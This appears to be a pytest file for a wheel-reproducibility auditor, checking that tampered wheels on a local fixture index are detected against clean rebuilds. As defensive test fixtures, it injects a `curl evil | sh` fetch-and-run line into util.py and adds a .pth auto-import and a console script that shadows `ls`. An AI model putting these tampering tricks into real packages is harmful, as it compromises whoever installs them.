"""End to end on a local fixture index (127.0.0.1): real flit builds, real rebuilds in the default
backend, wheels tampered after the build but kept internally consistent (RECORD rewritten)."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest

from tests.conftest import PYPI
from tests.fixtureindex import build_project, lock_line, make_project, rewrite_wheel

NOW = datetime.now(timezone.utc).replace(microsecond=0)


def _add_line(path: str, text: bytes):
    def edit(m):
        m[path] = m[path] + text
    return edit


def _new_member(path: str, text: bytes):
    def edit(m):
        m[path] = text
    return edit


CASES = {
    "fixctl": (None, None),  # the untouched control
    "fixpy": (_add_line("fixpy/util.py", b"\nimport os; os.system('curl evil | sh')\n"), ("fixpy/util.py", "content")),
    "fixpth": (_new_member("fixpth-init.pth", b"import fixpth.util\n"), ("fixpth-init.pth", "added")),
    "fixreq": (_add_line("fixreq-1.0.dist-info/METADATA", b"Requires-Dist: totally-not-malware\n"),
               ("fixreq-1.0.dist-info/METADATA", "metadata")),
    "fixscript": (_new_member("fixscript-1.0.dist-info/entry_points.txt", b"[console_scripts]\nls = fixscript.util:add\n"),
                  ("fixscript-1.0.dist-info/entry_points.txt", "added")),
}


@pytest.fixture
def published(tmp_path, index):
    """Publish five projects (sdist + wheel each; four wheels tampered after the build) and lock them."""
    lines = []
    for name, (edit, _) in CASES.items():
        proj = make_project(tmp_path / "src", name, "1.0")
        sdist, wheel = build_project(proj, tmp_path / "dist" / name)
        if edit:
            tampered = rewrite_wheel(wheel, tmp_path / "dist" / f"t-{wheel.name}", edit)
            wheel = tampered.replace(wheel)
        h1 = index.add(name, sdist, NOW)
        h2 = index.add(name, wheel, NOW)
        lines.append(lock_line(name, "1.0", h1, h2))
    lock = tmp_path / "requirements.txt"
    lock.write_text(f"--index-url {index.url}\n" + "".join(lines))
    return lock


def test_tampered_wheels_differ_and_control_does_not(published, auditor):
    r = auditor("check", str(published), "--build-index-url", PYPI)
    assert "Traceback" not in r.stderr
    results = r.results
    by_name = {p["name"]: p for p in results["packages"]}
    assert set(by_name) == set(CASES)
    control = by_name["fixctl"]
    assert control["verdict"] == "identical", control
    assert control["wheels"][0]["rebuilt_sha256"] == control["wheels"][0]["sha256"]
    for name, (_, expected) in CASES.items():
        if expected is None:
            continue
        path, kind = expected
        pkg = by_name[name]
        assert pkg["verdict"] == "differs", pkg
        diffs = {(d["path"], d["kind"]) for d in pkg["wheels"][0]["differences"]}
        assert (path, kind) in diffs, diffs
        # RECORD was rewritten to stay consistent: it differs too, and is reported, not normalized away
        assert (f"{name}-1.0.dist-info/RECORD", "metadata") in diffs
    assert r.code == 1
    assert results["complete"] is True
    # the build record says what was pinned, with hashes, and how
    build = control["build"]
    assert build["backend"] == "flit-core"
    assert any(req["name"] == "flit-core" and len(req["sha256"]) == 64 for req in build["requirements"])
    assert build["source_date_epoch"] == 1700000000


def test_html_only_index_and_unlocked_late_wheel(tmp_path, index, auditor):
    """A PEP 503 HTML index (no upload-time) works; a wheel the lock does not hash still gets a verdict."""
    index.json_api = False
    proj = make_project(tmp_path / "src", "fixpkg", "2.0")
    sdist, wheel = build_project(proj, tmp_path / "dist")
    h1 = index.add("fixpkg", sdist)
    index.add("fixpkg", wheel)
    lock = tmp_path / "requirements.txt"
    lock.write_text(f"--index-url {index.url}\n" + lock_line("fixpkg", "2.0", h1))
    r = auditor("check", str(lock), "--build-index-url", PYPI)
    pkg = r.package("fixpkg")
    assert pkg["wheels"] == []
    assert pkg["unlocked"][0]["flags"] == ["not-in-lockfile"]
    assert pkg["unlocked"][0]["verdict"] == "identical"
    assert pkg["verdict"] == "identical" and r.code == 0


def test_late_upload_is_flagged(tmp_path, index, auditor):
    proj = make_project(tmp_path / "src", "fixpkg", "3.0")
    sdist, wheel = build_project(proj, tmp_path / "dist")
    h1 = index.add("fixpkg", sdist, NOW - timedelta(days=400))
    index.add("fixpkg", wheel, NOW)
    lock = tmp_path / "requirements.txt"
    lock.write_text(lock_line("fixpkg", "3.0", h1))
    r = auditor("check", str(lock), "--index-url", index.url, "--build-index-url", PYPI)
    pkg = r.package("fixpkg")
    assert "late-upload" not in pkg["sdist"]["flags"]
    assert set(pkg["unlocked"][0]["flags"]) == {"not-in-lockfile", "late-upload"}


def test_hash_mismatch_and_missing_hash(tmp_path, index, auditor):
    proj = make_project(tmp_path / "src", "fixpkg", "4.0")
    sdist, wheel = build_project(proj, tmp_path / "dist")
    h1 = index.add("fixpkg", sdist, NOW)
    h2 = index.add("fixpkg", wheel, NOW)
    # the index declares h2 but now serves other bytes
    served = index.root / "files" / wheel.name
    served.write_bytes(served.read_bytes() + b"\0")
    lock = tmp_path / "requirements.txt"
    lock.write_text(f"--index-url {index.url}\n" + lock_line("fixpkg", "4.0", h1, h2, "c" * 64))
    r = auditor("check", str(lock), "--build-index-url", PYPI)
    pkg = r.package("fixpkg")
    assert pkg["missing"] == ["c" * 64] and "missing" in pkg["flags"]
    w = pkg["wheels"][0]
    assert "hash-mismatch" in w["flags"] and w["verdict"] == "differs"
    assert pkg["verdict"] == "differs" and r.code == 1


def test_results_match_the_published_schema(published, auditor):
    import json

    import jsonschema

    from tests.conftest import ROOT

    r = auditor("check", str(published), "--build-index-url", PYPI)
    schema = json.loads((ROOT / "schema" / "results.schema.json").read_text())
    jsonschema.validate(r.results, schema)
    # and what the valid document says is the one right outcome: the control identical, every tamper differs
    verdicts = {p["name"]: p["verdict"] for p in r.results["packages"]}
    assert verdicts == {name: "identical" if edit is None else "differs" for name, (edit, _) in CASES.items()}, verdicts
    assert r.code == 1


def test_warm_rerun_uses_the_result_cache_and_changes_invalidate_it(published, auditor, index, tmp_path):
    first = auditor("check", str(published), "--build-index-url", PYPI, report_dir=tmp_path / "r1")
    second = auditor("check", str(published), "--build-index-url", PYPI, report_dir=tmp_path / "r2")
    v1 = {p["name"]: p["verdict"] for p in first.results["packages"]}
    v2 = {p["name"]: p["verdict"] for p in second.results["packages"]}
    assert v1 == v2 and all(p.get("cached") for p in second.results["packages"])
    assert second.code == first.code == 1
    # the cached entry brings its logs and diffoscope pages into the new report directory
    for p in second.results["packages"]:
        assert (second.report_dir / p["build"]["log"]).is_file()
    # a new file on the index for a release changes its inputs: it is audited again
    extra = tmp_path / "fixctl-1.0-py2.py3-none-any.whl"
    extra.write_bytes((index.root / "files" / "fixctl-1.0-py3-none-any.whl").read_bytes())
    index.add("fixctl", extra)
    third = auditor("check", str(published), "--build-index-url", PYPI, report_dir=tmp_path / "r3")
    ctl = third.package("fixctl")
    assert not ctl.get("cached")
    # same bytes under another name: the lock's hash covers it (locks hash bytes, not names)
    assert sorted(w["filename"] for w in ctl["wheels"]) == sorted([extra.name, "fixctl-1.0-py3-none-any.whl"])
    assert all(w["verdict"] == "identical" for w in ctl["wheels"]), ctl["wheels"]
    fresh = auditor("check", str(published), "--build-index-url", PYPI, "--no-result-cache", report_dir=tmp_path / "r4")
    assert not any(p.get("cached") for p in fresh.results["packages"])


def test_publisher_time_zone_is_inferred_and_reproduced(tmp_path, index, auditor):
    """flit without SOURCE_DATE_EPOCH writes the sources' mtimes in the publisher's local time: the
    zone is read off the wheel, the rebuild runs in it, and the wheel reproduces byte for byte."""
    import os

    proj = make_project(tmp_path / "src", "fixtz", "1.0")
    for i, f in enumerate(sorted(p for p in proj.rglob("*") if p.is_file())):
        os.utime(f, (1700000000 + 1000 * i, 1700000000 + 1000 * i))
    sdist, wheel = build_project(proj, tmp_path / "dist", sde=None, tz="<+0300>-03:00")
    lock = tmp_path / "requirements.txt"
    lock.write_text(f"--index-url {index.url}\n" + lock_line("fixtz", "1.0", index.add("fixtz", sdist, NOW),
                                                            index.add("fixtz", wheel, NOW)))
    r = auditor("check", str(lock), "--build-index-url", PYPI)
    pkg = r.package("fixtz")
    chosen = pkg["build"]
    assert chosen["timestamp_policy"]["name"] == "mtime:<+0300>-03:00", chosen["timestamp_policy"]
    assert chosen["tz"] == "<+0300>-03:00"
    assert pkg["verdict"] == "identical", pkg
